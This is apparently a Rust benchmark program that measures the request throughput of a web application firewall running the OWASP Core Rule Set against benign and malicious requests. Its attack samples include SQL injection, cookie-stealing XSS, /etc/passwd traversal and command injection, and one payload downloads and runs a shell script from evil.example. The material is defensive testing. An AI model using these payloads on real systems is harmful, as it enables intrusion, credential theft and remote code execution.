//! Engine-only throughput of [`Waf::evaluate`] with the OWASP CRS, on one
//! core: a fixed set of benign requests (browser GETs with query strings,
//! JSON and form POSTs) and attacks (SQLi, XSS, path traversal, RCE), timed
//! as benign only, attacks only and mixed (four benign to one attack).
//!
//! ```text
//! cargo run --release -p rampart-waf --example bench_waf -- CRS_DIR [PL]
//! ```
//!
//! Without `PL` it runs paranoia levels 1 and 2. Last comes the named
//! baseline, measured in the same run: the same requests through an engine
//! with no rules, with the ratio of each CRS rate to it. `RAMPART_BENCH_SECS` sets
//! the time per measurement (default 3); `RAMPART_BENCH_ROUNDS=N` runs each
//! set exactly N times instead, without warm-up, for instruction counts
//! (`valgrind --tool=callgrind --toggle-collect='*Waf*evaluate*'`). Rates are per CPU second of the
//! benchmark thread (wall-clock rates, which other load on the machine
//! lowers, are printed beside them). Each level also prints a digest of
//! every request's matched rule ids, so that two builds can be checked to
//! decide alike. With `RAMPART_BENCH_RESPONSE=1` every request that passes
//! is followed, as in the edge, by a small `200 text/plain` response through
//! the response phases and logging (`Waf::evaluate_response`).
//! `RAMPART_BENCH_EXTRA` is SecLang loaded after the rules (`\n` between
//! directives), for example `SecRuleRemoveById 920450` to see what one rule
//! costs.

use rampart_waf::{Request, Response, Waf, WafBuilder};
use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash, Hasher};
use std::hint::black_box;
use std::path::Path;
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// The allocator the `rampart` binary ships with (its `main.rs`): the
/// engine allocates small buffers on every request, and the figures are
/// meant to be the engine's as it runs in the edge.
#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

/// Loads CRS as the regression test does, with the paranoia level set by a
/// `SecAction` ahead of `crs-setup.conf.example` and JSON bodies parsed as
/// ModSecurity's recommended configuration (rule 200001) does.
///
/// CRS 3 (Debian's 3.3.4, which `scripts/bench-waf` runs) is loaded too:
/// its setup file is `crs-setup.conf` where there is no `.example` one, or
/// the file `RAMPART_CRS_SETUP` names (Debian keeps it in
/// `/etc/modsecurity/crs/`), and its paranoia level variable is
/// `tx.paranoia_level` (CRS 4: `tx.blocking_paranoia_level`).
fn load_crs(dir: &Path, paranoia: u8) -> Result<Waf, rampart_waf::Error> {
    let mut b = WafBuilder::new();
    let init = std::fs::read_to_string(dir.join("rules/REQUEST-901-INITIALIZATION.conf"))
        .unwrap_or_default();
    let level_var = if init.contains("blocking_paranoia_level") || init.is_empty() {
        "blocking_paranoia_level"
    } else {
        "paranoia_level"
    };
    let setup = format!(
        "SecRuleEngine On\nSecRequestBodyAccess On\n\
         SecAction \"id:900000,phase:1,pass,nolog,\
         setvar:tx.{level_var}={paranoia}\"\n\
         SecRule REQUEST_HEADERS:Content-Type \"@rx ^application/json\" \
         \"id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON\"\n"
    );
    b.load_str(dir.join("rules/rampart-bench-setup.conf"), &setup)?;
    let setup_file = match std::env::var_os("RAMPART_CRS_SETUP") {
        Some(f) => std::path::PathBuf::from(f),
        None if !dir.join("crs-setup.conf.example").exists()
            && dir.join("crs-setup.conf").exists() =>
        {
            dir.join("crs-setup.conf")
        }
        None => dir.join("crs-setup.conf.example"),
    };
    b.load_file(setup_file)?;
    let mut rules: Vec<_> = std::fs::read_dir(dir.join("rules"))
        .map_err(|source| rampart_waf::Error::Io {
            path: dir.join("rules"),
            source,
        })?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|e| e == "conf"))
        .collect();
    rules.sort();
    for r in rules {
        b.load_file(&r)?;
    }
    if let Some(extra) = std::env::var_os("RAMPART_BENCH_EXTRA") {
        let extra = extra.to_string_lossy().replace("\\n", "\n");
        b.load_str(dir.join("rules/rampart-bench-extra.conf"), &extra)?;
    }
    b.build()
}

/// Headers a current desktop browser sends on a navigation.
fn browser(req: Request) -> Request {
    req.header("Host", "shop.example.com")
        .header(
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
             (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        )
        .header(
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,\
             image/webp,*/*;q=0.8",
        )
        .header("Accept-Language", "en-GB,en;q=0.9,de;q=0.7")
        .header("Accept-Encoding", "gzip, deflate, br, zstd")
        .header("Referer", "https://shop.example.com/")
        .header(
            "Cookie",
            "session=6f1c2a9e0b7d4c3a; theme=dark; _ga=GA1.2.1234567890.1700000000",
        )
        .header("Connection", "keep-alive")
        .header("Upgrade-Insecure-Requests", "1")
}

fn post(uri: &str, content_type: &str, body: &str) -> Request<'static> {
    browser(Request::new("POST", uri))
        .header("Content-Type", content_type)
        .header("Content-Length", body.len().to_string())
        .header("Origin", "https://shop.example.com")
        .body(body)
}

fn get(uri: &str) -> Request<'static> {
    browser(Request::new("GET", uri))
}

fn benign() -> Vec<Request<'static>> {
    vec![
        get("/"),
        get("/products?category=shoes&page=2&sort=price_asc"),
        get("/search?q=leather+boots&lang=en&page=1"),
        get("/static/js/app.3f9c2b1e.js"),
        get("/account/orders/12345?tab=history&year=2025"),
        get("/blog/2025/11/how-to-choose-running-shoes?utm_source=newsletter&utm_medium=email"),
        post(
            "/api/v1/orders",
            "application/json",
            r#"{"items":[{"sku":"AB-1234","qty":2},{"sku":"CD-5678","qty":1}],"shipping":{"name":"Jane Doe","street":"12 Baker Street","city":"London","postcode":"NW1 6XE"},"note":"Please leave it at the door"}"#,
        ),
        post(
            "/login",
            "application/x-www-form-urlencoded",
            "username=jane.doe%40example.com&password=correct+horse+battery+staple&remember=on",
        ),
        post(
            "/shop/cart/update?lang=en",
            "application/x-www-form-urlencoded",
            "item=4711&quantity=2&note=Gift+wrap+please&coupon=",
        ),
    ]
}

fn attacks() -> Vec<Request<'static>> {
    vec![
        get("/search?q=1%27+UNION+SELECT+username,password+FROM+users--"),
        post(
            "/login",
            "application/x-www-form-urlencoded",
            "username=admin%27+OR+%271%27%3D%271%27--&password=x",
        ),
        get("/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        post(
            "/api/v1/profile",
            "application/json",
            r#"{"bio":"<img src=x onerror=alert(1)>","name":"x"}"#,
        ),
        get("/download?file=../../../../etc/passwd"),
        get("/ping?host=127.0.0.1%3Bcat+/etc/passwd"),
        post(
            "/api/run",
            "application/x-www-form-urlencoded",
            "cmd=%24%28curl+http%3A%2F%2Fevil.example%2Fx.sh%7Csh%29",
        ),
    ]
}

/// Nanoseconds this thread has spent on a CPU (Linux schedstat), so that
/// other processes on a shared machine do not count against the engine.
fn cpu_ns() -> Option<u64> {
    let s = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    s.split_whitespace().next()?.parse().ok()
}

/// The upstream's answer that `RAMPART_BENCH_RESPONSE=1` puts through the
/// response phases after each request (set once, in `main`).
static RESPONSE: std::sync::OnceLock<Option<Response<'static>>> = std::sync::OnceLock::new();

/// A small upstream answer, as `scripts/bench-waf`'s upstream sends.
fn small_response() -> Response<'static> {
    Response {
        status: 200,
        protocol: "HTTP/1.1".into(),
        headers: vec![
            ("Content-Type".into(), b"text/plain"[..].into()),
            ("Content-Length".into(), b"20"[..].into()),
            ("Date".into(), b"Sat, 05 Dec 2026 12:00:00 GMT"[..].into()),
        ],
        body: b"hello from upstream\n"[..].into(),
    }
}

/// How long to measure: a minimum wall time, or a fixed number of rounds
/// (for instruction counts under callgrind).
#[derive(Clone, Copy)]
enum Budget {
    Time(Duration),
    Rounds(u64),
}

/// Requests per second, per wall second and per CPU second of this thread
/// (when the OS tells), cycling `reqs`. Never inlined, so that callgrind can
/// split a run per set (`--dump-after=bench_waf::rate`).
#[inline(never)]
fn rate(waf: &Waf, reqs: &[&Request], budget: Budget) -> (f64, Option<f64>) {
    let resp = RESPONSE.get().and_then(Option::as_ref);
    let evaluate = |r: &Request| match resp {
        Some(resp) => waf.evaluate_response(r, resp),
        None => waf.evaluate(r),
    };
    if let Budget::Time(_) = budget {
        for r in reqs.iter().cycle().take(reqs.len() * 5) {
            black_box(evaluate(black_box(r)));
        }
    }
    let start = Instant::now();
    let cpu0 = cpu_ns();
    let mut n = 0u64;
    let mut rounds = 0u64;
    while match budget {
        Budget::Time(min) => start.elapsed() < min,
        Budget::Rounds(max) => rounds < max,
    } {
        rounds += 1;
        for r in reqs {
            black_box(evaluate(black_box(r)));
        }
        n += reqs.len() as u64;
    }
    let wall = n as f64 / start.elapsed().as_secs_f64();
    let cpu = match (cpu0, cpu_ns()) {
        (Some(a), Some(b)) if b > a => Some(n as f64 * 1e9 / (b - a) as f64),
        _ => None,
    };
    (wall, cpu)
}

/// The three request sets: benign, attacks, and four benign to one attack.
fn sets() -> [(&'static str, Vec<Request<'static>>); 3] {
    let (b, a) = (benign(), attacks());
    let mut m = Vec::new();
    for (i, r) in b.iter().cycle().take(4 * a.len()).enumerate() {
        m.push(r.clone());
        if i % 4 == 3 {
            if let Some(x) = a.get(i / 4) {
                m.push(x.clone());
            }
        }
    }
    [("benign", b), ("attack", a), ("mixed", m)]
}

/// Measures CRS at one paranoia level; returns (set, req/s per CPU second).
fn run(
    dir: &Path,
    paranoia: u8,
    budget: Budget,
) -> Result<Vec<(&'static str, f64)>, rampart_waf::Error> {
    let t = Instant::now();
    let waf = load_crs(dir, paranoia)?;
    let load = t.elapsed();
    let (benign, attacks) = (benign(), attacks());
    let mut digest = DefaultHasher::new();
    let mut passed = 0;
    for r in &benign {
        let v = waf.evaluate(r);
        v.matched_ids.hash(&mut digest);
        if v.is_pass() {
            passed += 1;
        } else {
            let why: Vec<String> = v
                .matched_rules
                .iter()
                .map(|m| format!("{} {}", m.id, m.matched_var_name))
                .collect();
            eprintln!("  note: benign {} {} blocked: {why:?}", r.method, r.uri);
        }
    }
    let mut blocked = 0;
    for r in &attacks {
        let v = waf.evaluate(r);
        v.matched_ids.hash(&mut digest);
        if v.is_pass() {
            eprintln!("  note: attack {} {} passed", r.method, r.uri);
        } else {
            blocked += 1;
        }
    }
    println!(
        "CRS paranoia level {paranoia}: {} rules, loaded in {:.2}s; benign passed {passed}/{}, \
         attacks blocked {blocked}/{}; verdict digest {:016x}",
        waf.rule_count(),
        load.as_secs_f64(),
        benign.len(),
        attacks.len(),
        digest.finish()
    );
    let mut out = Vec::new();
    for (name, set) in sets() {
        let set: Vec<&Request> = set.iter().collect();
        let (wall, cpu) = rate(&waf, &set, budget);
        let cpu = cpu.unwrap_or(wall);
        println!(
            "  PL{paranoia} {name:>6}: {cpu:>9.0} req/s per CPU second ({:.1} µs/request); \
             {wall:>9.0} req/s wall clock",
            1e6 / cpu
        );
        out.push((name, cpu));
    }
    Ok(out)
}

fn main() -> ExitCode {
    let mut args = std::env::args().skip(1);
    let Some(dir) = args.next() else {
        eprintln!("usage: bench_waf CRS_DIR [PARANOIA_LEVEL]");
        return ExitCode::from(2);
    };
    let levels: Vec<u8> = match args.next().map(|p| p.parse::<u8>()) {
        None => vec![1, 2],
        Some(Ok(p @ 1..=4)) => vec![p],
        Some(_) => {
            eprintln!("paranoia level must be 1 to 4");
            return ExitCode::from(2);
        }
    };
    let secs = std::env::var("RAMPART_BENCH_SECS")
        .ok()
        .and_then(|s| s.parse::<f64>().ok())
        .filter(|s| *s > 0.0)
        .unwrap_or(3.0);
    let budget = match std::env::var("RAMPART_BENCH_ROUNDS")
        .ok()
        .and_then(|s| s.parse::<u64>().ok())
    {
        Some(n) => {
            println!("one thread, {n} rounds per measurement");
            Budget::Rounds(n)
        }
        None => {
            println!("one thread, {secs}s per measurement");
            Budget::Time(Duration::from_secs_f64(secs))
        }
    };
    let with_response = std::env::var_os("RAMPART_BENCH_RESPONSE").is_some_and(|v| v == "1");
    if with_response {
        println!("each passing request is followed by a 200 response (phases 3 to 5)");
    }
    let _ = RESPONSE.set(with_response.then(small_response));
    let mut results = Vec::new();
    for pl in levels {
        match run(Path::new(&dir), pl, budget) {
            Ok(r) => results.push((pl, r)),
            Err(e) => {
                eprintln!("{e}");
                return ExitCode::FAILURE;
            }
        }
    }
    // The named baseline, measured in the same run: an engine with no
    // rules, so only request parsing and variable set-up.
    let empty =
        match Waf::from_str_named("empty.conf", "SecRuleEngine On\nSecRequestBodyAccess On\n") {
            Ok(w) => w,
            Err(e) => {
                eprintln!("{e}");
                return ExitCode::FAILURE;
            }
        };
    println!("baseline, no rules (request parsing and variable set-up only):");
    for (name, set) in sets() {
        let set: Vec<&Request> = set.iter().collect();
        let (wall, cpu) = rate(&empty, &set, budget);
        let base = cpu.unwrap_or(wall);
        let ratios: Vec<String> = results
            .iter()
            .filter_map(|(pl, r)| {
                let (_, crs) = r.iter().find(|(n, _)| *n == name)?;
                Some(format!("PL{pl} {:.3}", crs / base))
            })
            .collect();
        println!(
            "  {name:>6}: {base:>9.0} req/s per CPU second; CRS/baseline: {}",
            ratios.join(", ")
        );
    }
    ExitCode::SUCCESS
}
